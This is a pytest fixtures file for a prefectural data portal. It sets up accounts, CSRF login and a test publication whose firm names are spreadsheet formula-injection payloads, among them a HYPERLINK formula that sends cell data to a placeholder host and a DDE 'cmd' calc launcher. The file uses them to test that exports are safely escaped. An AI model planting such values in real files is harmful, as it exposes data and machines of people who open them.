"""A real publication (the pipeline over the tiny sample), real accounts, the real app."""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from pipeline.prefectures import PREFECTURES
from pipeline.sample import write_sample
from portal.accounts import Store
from portal.app import PortalConfig, create_app
from tests.conftest import YEAR, Pipeline, firm, sale

PASSWORD = "correct horse battery staple"
CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


@dataclass(frozen=True)
class Portal:
    config: PortalConfig
    year: int

    def client(self, address: str = "testclient") -> TestClient:
        # https: the session cookie is Secure, and a client keeps it only over TLS.
        return TestClient(
            create_app(self.config),
            base_url="https://testserver",
            follow_redirects=False,
            client=(address, 50000),
        )

    def store(self) -> Store:
        return Store(self.config.database)


def username(role: str) -> str:
    return role.replace(":", "")


def login(client: TestClient, user: str, password: str = PASSWORD):
    page = client.get("/login")
    token = CSRF.search(page.text).group(1)
    return client.post("/login", data={"username": user, "password": password, "csrf_token": token})


def logged_in(portal: Portal, role: str) -> TestClient:
    client = portal.client()
    response = login(client, username(role))
    assert response.status_code == 303, response.text
    return client


@pytest.fixture(scope="session")
def published(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("portal_publication")
    pipeline = Pipeline(root)
    write_sample(pipeline.paths.raw_dir, size="tiny", fiscal_year=int(YEAR))
    run = pipeline.run()
    assert run.success, run.failure
    return pipeline.paths.marts_dir


@pytest.fixture(scope="session")
def portal(published, tmp_path_factory) -> Portal:
    config = PortalConfig(marts_dir=published, database=tmp_path_factory.mktemp("portal") / "portal.sqlite3")
    store = Store(config.database)
    for role in [f"pref:{p.code}" for p in PREFECTURES] + ["secretariat", "reviewer"]:
        store.create(username(role), role, PASSWORD)
    return Portal(config, int(YEAR))


# Firm names a careful attacker would register: formulas (the review's three among them),
# full-width triggers, an error literal. Control characters are left to the XLSX unit test:
# whether input staging keeps them is the staging's decision, not the portal's.
HOSTILE_NAMES = {
    1: '=HYPERLINK("http://x.example/?"&D2&E2,"詳細")',
    2: "=1+1",
    3: "=cmd|' /C calc'!A0",
    4: "+81 商事",
    5: "-2+3",
    6: "@SUM(A1)",
    7: "＝１＋１",
    8: "＋８１商事",
    9: "－全角マイナス工業",
    10: "＠ＳＵＭ（Ａ１）",
    11: "#N/A",
}


@pytest.fixture(scope="session")
def hostile(tmp_path_factory) -> Portal:
    """A publication whose Tokyo candidates all have hostile names, with its own accounts."""
    root = tmp_path_factory.mktemp("hostile_publication")
    pipeline = Pipeline(root)
    firms = [firm(n, "13", name=name) for n, name in HOSTILE_NAMES.items()]
    firms += [firm(n, "27") for n in range(20, 30)]
    transactions = [sale(n, 20, 1_000 * n) for n in HOSTILE_NAMES]
    transactions += [sale(20 + i, 1, 500 + i) for i in range(10)]
    pipeline.write(firms, transactions)
    run = pipeline.run()
    assert run.success, run.failure
    names = {row["name"] for row in run.parquet("national_candidates")}
    assert set(HOSTILE_NAMES.values()) <= names  # every hostile firm is on the list
    config = PortalConfig(marts_dir=pipeline.paths.marts_dir, database=root / "portal.sqlite3")
    store = Store(config.database)
    for role in ("pref:13", "secretariat"):
        store.create(username(role), role, PASSWORD)
    return Portal(config, int(YEAR))
